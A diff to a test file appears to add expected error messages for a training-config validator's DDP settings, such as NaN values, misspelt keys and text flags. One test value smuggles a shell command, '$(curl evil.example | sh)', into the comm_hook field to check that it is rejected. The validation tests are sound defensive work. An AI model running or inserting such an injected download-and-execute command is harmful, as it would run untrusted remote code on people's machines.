@@ -60,6 +60,12 @@ EXPECTED = {
     "workers_with_resident_data": ["dataloader.num_workers is 2 but data.init_args.resident is true",
                                    "dataloader.num_workers: 0"],
     "repeats_zero": ["repeats is 0", "must be at least 1"],
+    # DDP's settings (config ddp): nothing hostile reaches a job's command line or DDP
+    "ddp_bucket_nan": ["broken.yaml: ddp.bucket_cap_mb is nan, which no setting can use", "give a finite number"],
+    "ddp_comm_hook_shell": ["broken.yaml: ddp.comm_hook is 'fp16_compress; $(curl evil.example | sh)'",
+                            "must be one of: none, fp16_compress, bf16_compress"],
+    "ddp_misspelt_key": ["broken.yaml: unknown key 'find_unused_params' in ddp", "did you mean 'find_unused_parameters'?"],
+    "ddp_flag_as_text": ["broken.yaml: ddp.find_unused_parameters is 'yes' (text) but must be true or false"],
     "topologies_as_text": ["topologies is '1x1, 1x2, 2x1'", 'write a list in brackets, e.g. ["1x1", "1x2", "2x1"]'],
     "empty_section": ["dataset is empty (null)", "remove the 'dataset:' line"],
     "accelerator_cuda": ["accelerator is 'cuda'", "one of: auto, cpu, gpu", "did you mean 'gpu'?"],
